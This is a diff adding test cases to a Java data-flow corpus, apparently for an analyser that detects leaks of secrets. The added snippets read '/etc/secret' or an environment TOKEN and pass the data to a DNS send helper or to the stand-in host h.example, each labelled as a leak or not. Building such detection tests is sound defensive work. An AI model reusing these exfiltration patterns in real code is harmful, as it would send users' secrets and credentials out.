@@ -243,6 +243,21 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        viaSend("a byte read with read() is the data; read(buf) fills the buffer", "library effects: read by arity", true, """
+                package PKG;
+                import java.io.FileInputStream;
+                import java.io.InputStream;
+                class A {
+                    void f() throws Exception {
+                        InputStream in = new FileInputStream("/etc/secret");
+                        int b = in.read();
+                        Send.dns("x" + (char) b);
+                        byte[] buf = new byte[16];
+                        in.read(buf);
+                        Send.dns(new String(buf));
+                    }
+                }
+                """);
         inline("local variable", "locals", """
                 package PKG;
                 class A {
@@ -1026,6 +1041,47 @@ final class FlowCorpus {
                         l.set(0, System.getenv("TOKEN"));
                         l.set(0, "h.example");
                         Send.dns(l.get(0));
+                    }
+                }
+                """);
+        viaSend("a call chained on a platform method stays on the platform", "negative: dispatch by platform return types", false, """
+                package PKG;
+                class Out {
+                    private final StringBuilder text = new StringBuilder();
+                    Out append(String s) throws Exception {
+                        Send.dns(s);
+                        return this;
+                    }
+                }
+                """, """
+                package PKG;
+                class A {
+                    String f() throws Exception {
+                        StringBuilder b = new StringBuilder();
+                        b.append('%').append(System.getenv("TOKEN"));
+                        java.net.URI u = new java.net.URL("https://h.example/").toURI().resolve(System.getenv("TOKEN"));
+                        return b.toString().trim().concat(u.toString());
+                    }
+                }
+                """);
+        viaSend("a count from read(buf), a map looked up by a secret key, a connection's length setting", "negative: library effects carry no data", false, """
+                package PKG;
+                import java.io.FileInputStream;
+                import java.io.InputStream;
+                import java.net.HttpURLConnection;
+                import java.net.URL;
+                import java.util.HashMap;
+                import java.util.Map;
+                class A {
+                    void f(Map<String, String> hosts) throws Exception {
+                        InputStream in = new FileInputStream("/etc/secret");
+                        byte[] buf = new byte[16];
+                        int n = in.read(buf);
+                        Send.dns("n" + n + ".example");
+                        Send.dns(hosts.get(System.getenv("TOKEN")));
+                        HttpURLConnection c = (HttpURLConnection) new URL("https://h.example/").openConnection();
+                        c.setFixedLengthStreamingMode(n);
+                        c.getOutputStream().write(new byte[0]);
                     }
                 }
                 """);
